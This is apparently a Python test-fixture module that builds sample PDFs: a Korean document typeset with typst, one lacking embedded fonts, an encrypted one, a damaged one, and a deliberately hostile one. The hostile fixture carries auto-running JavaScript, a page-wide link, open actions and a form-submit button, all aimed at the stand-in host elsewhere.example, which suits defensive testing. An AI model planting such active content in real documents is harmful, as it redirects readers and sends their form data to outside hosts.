"""PDF files for tests: a Korean one as typst sets it, a hostile one, and others that go wrong each in its own way."""

import functools

import typst

from madang.papers.fonts import FOLDER


@functools.cache
def korean(pages: int = 3) -> bytes:
    """Set by typst with our own font: `쪽 N` and a paragraph on each page."""
    source = '#set page("a4")\n#set text(font: "Pretendard GOV", lang: "ko")\n#set document(title: "사업계획서")\n'
    page = (
        "= 스마트 도시 사업계획서 {n}쪽\n\n밤길의 소음을 줄이고 걷기 좋은 거리를 만듭니다. Quiet streets on page {n}.\n"
    )
    text = source + "\n#pagebreak()\n".join(page.format(n=n) for n in range(1, pages + 1))
    made = typst.compile(text.encode(), font_paths=[str(FOLDER)], ignore_system_fonts=True)
    assert isinstance(made, bytes)
    return made


def written(objects: list[str], *, trailer: str = "") -> bytes:
    """A PDF of these objects, numbered from 1; the first is the catalogue."""
    out, places = b"%PDF-1.7\n", []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += f"{number} 0 obj\n{body}\nendobj\n".encode("latin-1")
    start = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{place:010} 00000 n \n".encode() for place in places)
    out += f"trailer\n<</Size {len(objects) + 1} /Root 1 0 R {trailer}>>\nstartxref\n{start}\n%%EOF\n".encode()
    return out


def stream(text: str) -> str:
    return f"<</Length {len(text)}>>\nstream\n{text}\nendstream"


def hostile() -> bytes:
    """It would run scripts on opening, lead to elsewhere by a link over the whole page, and send a form."""
    script = "app.alert('here'); app.launchURL('https://elsewhere.example/'); this.submitForm()"
    return written(
        [
            f"<</Type/Catalog /Pages 2 0 R /OpenAction<</S/JavaScript /JS({script})>>"
            " /AA<</WC<</S/JavaScript /JS(app.alert('here'))>>>> /AcroForm<</Fields[6 0 R] /NeedAppearances true>>"
            " /Names<</JavaScript<</Names[(a)<</S/JavaScript /JS(top.location='https://elsewhere.example/')>>]>>>>>>",
            "<</Type/Pages /Kids[3 0 R] /Count 1>>",
            "<</Type/Page /Parent 2 0 R /MediaBox[0 0 400 400] /Contents 4 0 R /Annots[5 0 R 6 0 R]"
            " /Resources<</Font<</F1<</Type/Font /Subtype/Type1 /BaseFont/Times-Roman>>>>>>"
            " /AA<</O<</S/URI /URI(https://elsewhere.example/opened)>>>>>>",
            stream("BT /F1 24 Tf 40 300 Td (Press anywhere) Tj ET"),
            "<</Type/Annot /Subtype/Link /Rect[0 0 400 400] /A<</S/URI /URI(https://elsewhere.example/link)>>>>",
            "<</Type/Annot /Subtype/Widget /FT/Btn /T(send) /Rect[20 20 200 60] /Ff 65536 /MK<</CA(Send)>>"
            " /A<</S/SubmitForm /F(https://elsewhere.example/form)>>>>",
        ]
    )


def without_fonts() -> bytes:
    """Korean as older programs write it: the letters by a character map that the file only names, no font inside."""
    letters = "한국어 문서".encode("cp949").hex()
    return written(
        [
            "<</Type/Catalog /Pages 2 0 R>>",
            "<</Type/Pages /Kids[3 0 R] /Count 1>>",
            "<</Type/Page /Parent 2 0 R /MediaBox[0 0 400 400] /Contents 4 0 R"
            " /Resources<</Font<</F1 5 0 R /F2<</Type/Font /Subtype/Type1 /BaseFont/ZapfDingbats>>>>>>>>",
            stream(f"BT /F1 24 Tf 40 300 Td <{letters}> Tj /F2 24 Tf 0 -60 Td (4) Tj ET"),
            "<</Type/Font /Subtype/Type0 /BaseFont/HYSMyeongJo-Medium /Encoding/KSCms-UHC-H /DescendantFonts[6 0 R]>>",
            "<</Type/Font /Subtype/CIDFontType2 /BaseFont/HYSMyeongJo-Medium /FontDescriptor 7 0 R"
            " /CIDSystemInfo<</Registry(Adobe) /Ordering(Korea1) /Supplement 1>>>>",
            "<</Type/FontDescriptor /FontName/HYSMyeongJo-Medium /Flags 6 /FontBBox[0 -200 1000 900] /ItalicAngle 0"
            " /Ascent 800 /Descent -200 /CapHeight 700 /StemV 80>>",
        ]
    )


def locked() -> bytes:
    """Encrypted with a password that nobody has said."""
    key = "<" + "7f" * 32 + ">"
    return written(
        ["<</Type/Catalog /Pages 2 0 R>>", "<</Type/Pages /Kids[] /Count 0>>"],
        trailer=f"/Encrypt<</Filter/Standard /V 1 /R 2 /O{key} /U{key} /P -44>> /ID[<00><00>]",
    )


DAMAGED = b"%PDF-1.7\nnothing of a document follows\n%%EOF\n"
